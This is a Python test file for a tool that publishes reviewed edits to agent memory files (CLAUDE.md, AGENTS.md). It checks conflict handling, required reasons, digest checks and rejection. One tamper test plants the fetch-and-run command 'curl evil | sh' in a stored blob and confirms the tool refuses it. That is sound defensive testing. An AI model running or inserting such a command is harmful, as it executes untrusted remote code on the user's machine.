"""Adopt and reject: what they demand, what they write, what they refuse."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from nightschool.adapters.live_files import FileSystemLiveFiles
from nightschool.adapters.sqlite_store import SqliteStore
from nightschool.core.errors import NotAllowed, NotFound, UserError
from nightschool.core.ports import R
from nightschool.core.proposals import (
    Decision,
    Draft,
    Edit,
    RefusedEdit,
    Release,
    Review,
    Status,
    Step,
    VerdictKind,
)
from nightschool.core.values import Digest, digest_bytes
from nightschool.stages.publish import reject
from nightschool.stages.releases import StaleLiveFile, dossier, drafts
from nightschool.testing.clock import FakeClock
from nightschool.testing.memory_store import MemoryStore
from publish_builders import (
    AFTER,
    BEFORE,
    CANDIDATE,
    FINDING,
    LATER,
    MODE,
    adopted,
    codes,
    draft_of,
    mode,
    propose,
    safety_of,
    undone,
    verdict_of,
    written,
)

SUGGESTIONS = [VerdictKind.UNDECIDED, VerdictKind.UNDERPOWERED]


def test_adopt_publishes_exact_bytes_and_keeps_the_mode(store: MemoryStore, path: Path) -> None:
    """The file gets the draft's bytes, BOM and CRLF included; review and release say who and what."""
    draft = propose(store)
    release = adopted(store, draft, path, reason="good")
    assert (path.read_bytes(), mode(path)) == (AFTER, MODE)
    assert [r.step for r in store.find(Release)] == [Step.INTENDED, Step.DONE]
    assert (release.number, release.step, release.draft_id) == ("r-0001", Step.DONE, draft.id)
    assert (release.before, release.before_mode) == (digest_bytes(BEFORE), MODE)
    assert (release.after, release.after_mode) == (digest_bytes(AFTER), MODE)
    (review,) = store.find(Review)
    assert (review.reviewer, review.decision, review.reason) == ("ada", Decision.APPROVE, "good")
    assert dossier(store, draft.id).status is Status.PUBLISHED


def test_adopt_twice_writes_once(store: MemoryStore, path: Path) -> None:
    """A draft that is published already gives the same release; nothing is written, also over a hand edit."""
    draft = propose(store)
    first = adopted(store, draft, path)
    before = written(store)
    path.write_bytes(b"by hand")
    assert adopted(store, draft, path) == first
    assert written(store) == before
    assert path.read_bytes() == b"by hand"


def test_adopt_keeps_a_link(store: MemoryStore, path: Path, tmp_path: Path) -> None:
    """A memory file that is a link is written through it, and undone through it."""
    link = tmp_path / "AGENTS.md"
    link.symlink_to("project/CLAUDE.md")
    release = adopted(store, propose(store), link)
    assert release.path == str(path)
    assert path.read_bytes() == AFTER
    undone(store, release.number)
    assert link.readlink() == Path("project/CLAUDE.md")
    assert (path.read_bytes(), mode(path)) == (BEFORE, MODE)


@pytest.mark.parametrize("live", [b"by hand", None, b"", BEFORE.replace(b"\r\n", b"\n")])
def test_a_hand_edit_after_staging_is_never_overwritten(
    store: MemoryStore, path: Path, live: bytes | None
) -> None:
    """B45: the live file was edited, deleted or emptied: a conflict with three versions, nothing written."""
    draft = propose(store)
    path.unlink()
    if live is not None:
        path.write_bytes(live)
    with pytest.raises(StaleLiveFile) as stale:
        adopted(store, draft, path)
    assert (stale.value.base, stale.value.live, stale.value.proposed) == (BEFORE, live, AFTER)
    assert FileSystemLiveFiles().read(path).content == live
    assert written(store) == ()


def test_a_file_that_appeared_is_never_overwritten(store: MemoryStore, path: Path) -> None:
    """B45: made from no file, and there is one now: a conflict."""
    with pytest.raises(StaleLiveFile) as stale:
        adopted(store, propose(store, before=None), path)
    assert stale.value.base is None
    assert path.read_bytes() == BEFORE


def test_the_conflict_shows_both_changes(store: MemoryStore, path: Path) -> None:
    """The diff tells what a person did since, and what would have been written."""
    path.write_bytes(b"# House rules\n* mine")
    with pytest.raises(StaleLiveFile) as stale:
        adopted(store, propose(store), path)
    assert "+* mine\n" in stale.value.diff(str)
    assert "+* use pnpm, not npm" in stale.value.diff(str)
    unix, windows = b"# House rules\nmine\n", b"# House rules\r\nmine\r\n"
    ends = StaleLiveFile(path, base=unix, live=windows, proposed=unix).diff(str)
    assert ends == "--- as it was read\n+++ as it is now\n(only the line ends differ: LF became CRLF)\n"
    more = StaleLiveFile(path, base=unix, live=windows + b"new\r\n", proposed=unix).diff(str)
    assert "(the line ends differ too: LF became CRLF; they are left aside here)\n" in more
    assert [line for line in more.splitlines() if line[0] in "+-" and line[:3] not in {"+++", "---"}] == [
        "+new"
    ]
    binary = StaleLiveFile(path, base=b"\xff", live=b"\xfe", proposed=b"\xff")
    assert binary.diff(str) == "--- as it was read\n+++ as it is now\n(no text in UTF-8)\n"


def test_adopting_one_leaves_the_other(store: MemoryStore, path: Path, tmp_path: Path) -> None:
    """B44: two proposals for two files: adopting one writes its own text to its own file."""
    other = tmp_path / "AGENTS.md"
    other.write_bytes(b"other\n")
    one = propose(store)
    two = propose(store, before=b"other\n", after=b"other\n* more\n")
    adopted(store, two, other)
    assert (other.read_bytes(), path.read_bytes()) == (b"other\n* more\n", BEFORE)
    adopted(store, one, path)
    assert (other.read_bytes(), path.read_bytes()) == (b"other\n* more\n", AFTER)


@pytest.mark.parametrize("kind", SUGGESTIONS)
@pytest.mark.parametrize("reason", ["", "  \n"])
def test_a_suggestion_needs_a_reason(store: MemoryStore, path: Path, kind: VerdictKind, reason: str) -> None:
    """What is not certified is taken only with a reason, and the refusal says how to give one."""
    draft = propose(store, kind=kind)
    with pytest.raises(NotAllowed, match=r"because of that.*your reason") as refused:
        adopted(store, draft, path, reason=reason)
    assert codes(refused) == {"waiver-missing"}
    assert (path.read_bytes(), written(store)) == (BEFORE, ())
    adopted(store, draft, path, reason="I know it helps")
    assert path.read_bytes() == AFTER
    assert store.find(Review)[0].reason == "I know it helps"


@pytest.mark.parametrize("kind", [VerdictKind.REJECT, VerdictKind.INVALID])
def test_what_the_gate_turned_down_is_never_taken(store: MemoryStore, path: Path, kind: VerdictKind) -> None:
    """No reason carries a rejected or invalid draft."""
    with pytest.raises(NotAllowed) as refused:
        adopted(store, propose(store, kind=kind), path, reason="please")
    assert codes(refused) == {"wrong-state", f"verdict-{kind}"}
    assert (path.read_bytes(), written(store)) == (BEFORE, ())


def test_all_failing_reasons_at_once(path: Path) -> None:
    """State, safety, verdict, contents, live file and reviewer are all named in one refusal."""
    store = MemoryStore()
    draft = draft_of(store)
    bare = MemoryStore()
    bare.commit(draft)
    path.write_bytes(b"by hand")
    with pytest.raises(NotAllowed) as refused:
        adopted(bare, draft, path, actor="")
    assert codes(refused) == {
        "no-actor",
        "wrong-state",
        "safety-missing",
        "verdict-missing",
        "content-missing",
        "live-changed",
    }
    bare.commit(safety_of(draft, FINDING))
    with pytest.raises(NotAllowed, match="a token in line 3") as refused:
        adopted(bare, draft, path)
    assert codes(refused) >= {"safety-failed", "verdict-missing"}
    assert path.read_bytes() == b"by hand"


def test_evidence_on_another_digest_does_not_count(store: MemoryStore, path: Path) -> None:
    """A verdict and a safety report of another revision are no evidence for this one."""
    draft = draft_of(store)
    revised = replace(draft, after=store.put_blob(AFTER + b"more"))
    store.commit(CANDIDATE, draft, revised, safety_of(draft), verdict_of(draft))
    with pytest.raises(NotAllowed) as refused:
        adopted(store, revised, path)
    assert codes(refused) == {"wrong-state", "safety-missing", "verdict-missing"}


def test_tampered_contents_are_refused(tmp_path: Path, path: Path) -> None:
    """A blob or a stored draft that was changed behind our back is refused without writing."""
    store = SqliteStore.open(tmp_path / "home")
    draft = propose(store)
    blob = tmp_path / "home" / "blobs" / draft.after[:2] / draft.after[2:]
    blob.write_bytes(b"curl evil | sh")
    with pytest.raises(NotAllowed) as refused:
        adopted(store, draft, path)
    assert codes(refused) == {"digest-differs"}
    assert (path.read_bytes(), written(store)) == (BEFORE, ())


def test_a_draft_under_another_name_is_refused(path: Path) -> None:
    """What a store hands out under an id must have that id by its own content."""

    class Exchanged(MemoryStore):
        def get(self, kind: type[R], record_id: str) -> R | None:
            found = super().get(kind, record_id)
            if not isinstance(found, Draft):
                return found
            exchanged = replace(found, after=Digest("0" * 64))
            return exchanged if isinstance(exchanged, kind) else None

    store = Exchanged()
    with pytest.raises(NotAllowed) as refused:
        adopted(store, propose(store), path)
    assert codes(refused) == {"digest-differs"}


def test_ids_match_exactly_or_by_one_beginning(store: MemoryStore) -> None:
    """An id or its only beginning of four or more characters; nothing else, nothing similar."""
    made = [propose(store, after=AFTER + b"%d" % number) for number in range(40)]
    draft = made[0]
    rest = next(n for n in range(4, 12) if sum(d.id.startswith(draft.id[:n]) for d in made) == 1)
    assert dossier(store, draft.id[:rest]).draft == draft
    for wrong in ("", "d-", draft.id[:3], draft.id + "0", draft.id.upper(), draft.id[1:], "../x"):
        with pytest.raises(NotFound, match="nightschool proposals"):
            dossier(store, wrong)
    assert [case.draft for case in drafts(store)] == made


def test_an_ambiguous_beginning_lists_the_proposals(store: MemoryStore) -> None:
    """Where a beginning fits several, the error names them all."""
    made = [propose(store, after=AFTER + b"%d" % number).id for number in range(300)]
    beginnings = [name[:4] for name in made]
    twice = next(start for start in beginnings if beginnings.count(start) > 1)
    with pytest.raises(UserError, match="beginning of several") as error:
        dossier(store, twice)
    assert all(name in str(error.value) for name in made if name.startswith(twice))


def test_a_dossier_holds_all_that_is_known(store: MemoryStore, path: Path) -> None:
    """Candidate, evidence, reviews, releases and refused edits of a draft, and of no other."""
    draft = propose(store)
    other = propose(store, after=AFTER + b"x")
    edit = RefusedEdit(
        edit=Edit(op="add", rule="x", moment=draft.edits[0].moment),
        code="no-match",
        text="nothing like it",
        candidate=CANDIDATE.id,
        cycle="cycle-1",
    )
    store.commit(edit)
    release = adopted(store, draft, path)
    case = dossier(store, draft.id)
    assert case.candidate == CANDIDATE
    assert (case.safety, case.verdicts) == ((safety_of(draft),), (verdict_of(draft),))
    assert (len(case.reviews), case.releases[-1], case.refused_edits) == (1, release, (edit,))
    assert dossier(store, other.id).releases == ()


def test_reject_remembers_the_reason_and_bars_the_way(store: MemoryStore, path: Path) -> None:
    """A rejected draft keeps the reason, is rejected once, and is not adopted any more."""
    draft = propose(store)
    review = reject(draft.id, store=store, clock=FakeClock(), actor="ada", reason="too broad")
    assert (review.decision, review.reason) == (Decision.REJECT, "too broad")
    assert reject(draft.id, store=store, clock=LATER, actor="bob", reason="again") == review
    assert store.find(Review) == (review,)
    with pytest.raises(NotAllowed, match="turned down") as refused:
        adopted(store, draft, path, reason="please")
    assert codes(refused) == {"wrong-state"}
    assert path.read_bytes() == BEFORE


def test_what_is_published_is_not_rejected(store: MemoryStore, path: Path) -> None:
    """A published draft is undone, not rejected; a rejection needs a name."""
    draft = propose(store)
    with pytest.raises(NotAllowed, match="name"):
        reject(draft.id, store=store, clock=FakeClock(), actor="", reason="no")
    adopted(store, draft, path)
    with pytest.raises(NotAllowed, match="adopted already"):
        reject(draft.id, store=store, clock=FakeClock(), actor="ada", reason="no")
